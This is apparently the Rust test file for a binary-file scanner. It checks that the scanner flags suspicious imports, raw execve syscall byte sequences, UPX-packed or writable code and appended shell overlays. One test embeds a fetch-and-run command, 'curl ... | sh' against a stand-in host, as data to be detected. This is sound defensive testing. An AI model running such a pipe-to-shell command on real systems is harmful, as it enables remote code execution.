//! What compilers wrote (`testdata/make.sh`), and lies.
use base::format::Format;

use super::*;
use crate::reading::{self, Reading};

const FILES: [(&Format, &str, &[u8]); 10] = [
    (&ELF, "plain.so", include_bytes!("testdata/plain.so")),
    (&ELF, "extension.so", include_bytes!("testdata/extension.so")),
    (&ELF, "operators.so", include_bytes!("testdata/operators.so")),
    (&ELF, "kernel.so", include_bytes!("testdata/kernel.so")),
    (&ELF, "names.so", include_bytes!("testdata/names.so")),
    (&PE, "kernel.dll", include_bytes!("testdata/kernel.dll")),
    (&ELF, "big-endian.o", include_bytes!("testdata/big-endian.o")),
    (&PE, "plain.dll", include_bytes!("testdata/plain.dll")),
    (&MACH_O, "plain.dylib", include_bytes!("testdata/plain.dylib")),
    (&MACH_O, "fat.dylib", include_bytes!("testdata/fat.dylib")),
];

fn of(wanted: &str) -> (Reading, Vec<u8>) {
    let (format, name, bytes) = FILES.iter().find(|(_, name, _)| *name == wanted).unwrap();
    (reading::read(format, name, bytes).unwrap(), bytes.to_vec())
}

fn facts(wanted: &str) -> String {
    let (reading, _) = of(wanted);
    assert!(reading.complete(), "{wanted}: {:?} {:?}", reading.stop, reading.ledger);
    reading::facts(&reading).join("\n")
}

fn holds(name: &str, wanted: &[&str]) {
    let facts = facts(name);
    for wanted in wanted {
        assert!(facts.contains(wanted), "{name}: {wanted} in\n{facts}");
    }
}

#[test]
fn what_compilers_write_is_read_whole() {
    holds(
        "plain.so",
        &[
            r#"import module="native" name="execve" origin="symbol" when="load""#,
            r#"import module="native" name="socket""#,
            r#"reference kind="folder" target="/tmp/x" role="search-path""#,
            r#"identity key="constructors" value="1""#,
            r#"opaque kind="native" detail="ELF shared object, x86-64""#,
        ],
    );
    holds("extension.so", &[r#"opaque kind="native-extension" detail="ELF shared object, x86-64, a Python extension""#]);
    holds("operators.so", &[r#"kind="native-plugin""#, r#"identity key="entry-point" value="RegisterCustomOps""#]);
    holds("big-endian.o", &[r#"name="system""#, r#"detail="ELF object file, PowerPC""#]);
    holds(
        "plain.dll",
        &[
            r#"name="CreateRemoteThread" written="KERNEL32.dll""#,
            r#"name="LoadLibraryA""#,
            r#"reference kind="library" target="KERNEL32.dll" role="needed""#,
            r#"kind="native-plugin" detail="PE library, x86-64, operators for ONNX Runtime""#,
        ],
    );
    holds(
        "plain.dylib",
        &[
            r#"name="posix_spawn" written="/usr/lib/libSystem.B.dylib""#,
            r#"identity key="constructors" value="1""#,
            r#"detail="Mach-O shared library, x86-64, kernels for TensorFlow""#,
        ],
    );
    let (fat, _) = of("fat.dylib");
    assert!(fat.complete());
    assert_eq!(fat.children[0].name, b"x86-64.macho");
}

#[test]
fn what_no_list_of_imports_shows_is_told() {
    holds(
        "kernel.so",
        &[
            r#"import module="native" name="socket" origin="kernel" when="load""#,
            r#"import module="native" name="execve" origin="kernel" when="load""#,
        ],
    );
    holds("kernel.dll", &[r#"name="syscall" origin="kernel""#, r#"name="WriteProcessMemory" origin="looked-up""#]);
    holds("names.so", &[r#"name="system" origin="looked-up" when="called""#]);
    // The names of its own symbols are no names that it asks for, nor is one that lies in the middle of a text.
    assert!(!facts("plain.so").contains("looked-up"));
    let (_, bytes) = of("names.so");
    let at = bytes.windows(6).position(|window| window == b"system").unwrap();
    let mut longer = bytes.clone();
    longer[at - 1] = b'/';
    let reading = reading::read(&ELF, "x", &longer).unwrap();
    assert!(!reading::facts(&reading).iter().any(|fact| fact.contains("looked-up")));
}

#[test]
fn what_is_asked_of_the_kernel_is_listed_as_such() {
    for (name, line) in [("kernel.so", "syscall execve"), ("names.so", "# a name to ask for: system"), ("plain.so", ".extern execve")] {
        let (_, bytes) = of(name);
        let list = ELF.explain.unwrap();
        let listing = list(&base::blob::Blob::from_bytes(bytes), &base::budget::Meter::unlimited()).unwrap();
        assert!(listing.lines.iter().any(|listed| listed.text == line), "{name}: {:?}", listing.lines);
    }
}

#[test]
fn numbers_of_the_kernel_are_those_of_the_processor() {
    use super::kernel::{Target, found};
    for (target, code, name) in [
        (Target::LinuxX86Wide, b"\xb8\x3b\0\0\0\x0f\x05".as_slice(), Some("execve")),
        (Target::LinuxX86Wide, b"\x48\xc7\xc0\x65\0\0\0\x0f\x05", Some("ptrace")),
        (Target::LinuxX86Wide, b"\x6a\x3b\x58\x99\x0f\x05", Some("execve")),
        (Target::LinuxX86Wide, b"\x48\x31\xc0\xb0\x3b\x0f\x05", Some("execve")),
        // `mov r8d, 59` is an argument, `mov al, 59` alone is half a number, and the last number counts.
        (Target::LinuxX86Wide, b"\x41\xb8\x3b\0\0\0\x0f\x05", None),
        (Target::LinuxX86Wide, b"\xb0\x3b\x0f\x05", None),
        (Target::LinuxX86Wide, b"\xb8\x3b\0\0\0\xb8\xca\0\0\0\x0f\x05", None),
        (Target::LinuxX86, b"\x31\xc0\xb0\x0b\xcd\x80", Some("execve")),
        (Target::LinuxArm, b"\xa8\x1b\x80\xd2\x01\0\0\xd4", Some("execve")),
        (Target::LinuxArm, b"\xa9\x1b\x80\xd2\x01\0\0\xd4", None),
        (Target::MacX86, b"\xb8\x3b\0\0\x02\x0f\x05", Some("execve")),
        (Target::MacArm, b"\x70\x07\x80\xd2\x01\x10\0\xd4", Some("execve")),
        (Target::Windows, b"\x4c\x8b\xd1\xb8\x18\0\0\0\x0f\x05", Some("syscall")),
        (Target::Windows, b"\xb8\x18\0\0\0\x0f\x05", None),
    ] {
        let names: Vec<_> = found(code, target).into_iter().map(|(_, name)| name).collect();
        assert_eq!(names.first().copied(), name, "{target:?} {code:x?}");
    }
}

#[test]
fn command_lines_among_the_data_are_stated_once() {
    let (_, mut bytes) = of("plain.so");
    let at = bytes.len();
    let text = b"curl -s http://x.example/a | sh; wget -qO- http://x.example/a | sh";
    bytes.extend([&[0; 80][..], text, &[0; 80], b"curl easy", &[0; 2 << 20], text, &[0]].concat());
    let reading = reading::read(&ELF, "x", &bytes).unwrap();
    let texts: Vec<_> = reading.facts.iter().filter(|fact| fact.subject() == "shell.list").map(|fact| fact.at.offset).collect();
    assert_eq!(texts, [(at + 80) as u64, (bytes.len() - 1 - text.len()) as u64]);
}

#[test]
fn every_prefix_stops_politely() {
    for (format, name, bytes) in FILES {
        for cut in testkit::prefixes(bytes, &[]).filter(|cut| *cut > 4) {
            let reading = reading::parse(format, name, &bytes[..cut], false);
            let told = reading.stop.is_some() || !reading.children.is_empty() || reading.complete();
            assert!(told, "{name} cut at {cut}");
        }
    }
}

#[test]
fn changed_bytes_stop_politely() {
    for (format, name, bytes) in FILES {
        reading::change(format, name, bytes);
    }
}

#[test]
fn packed_and_writable_code_is_told() {
    let (_, mut bytes) = of("plain.so");
    // The first segment becomes writable as well.
    bytes[64 + 4] = 7;
    let reading = reading::read(&ELF, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("writable-code")));
    // The mark of UPX, where it puts it: behind the headers.
    let (_, mut bytes) = of("plain.so");
    bytes.extend([0; 64]);
    let at = bytes.len() - 40;
    bytes[at..at + 4].copy_from_slice(b"UPX!");
    let reading = reading::read(&ELF, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("packed-code")));
    // A segment of Mach-O with all rights.
    let (_, mut bytes) = of("plain.dylib");
    let at = bytes.windows(8).position(|window| window == [5, 0, 0, 0, 5, 0, 0, 0]).unwrap();
    bytes[at..at + 8].copy_from_slice(&[7, 0, 0, 0, 7, 0, 0, 0]);
    let reading = reading::read(&MACH_O, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("writable-code")));
    let (_, mut bytes) = of("plain.dll");
    let at = bytes.windows(5).position(|window| window == b".text").unwrap();
    bytes[at..at + 5].copy_from_slice(b"UPX1\0");
    let reading = reading::read(&PE, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("packed-code")));
}

#[test]
fn what_no_table_explains_comes_back() {
    for name in ["plain.so", "plain.dll", "plain.dylib"] {
        let (format, _, bytes) = FILES.iter().find(|(_, known, _)| *known == name).unwrap();
        let bytes = [*bytes, &b"#!/bin/sh\necho appended\n".repeat(4)].concat();
        let reading = reading::read(format, name, &bytes).unwrap();
        assert!(reading.complete(), "{name}: {:?}", reading.ledger);
        assert_eq!(reading.children[0].name, b"overlay", "{name}");
    }
}
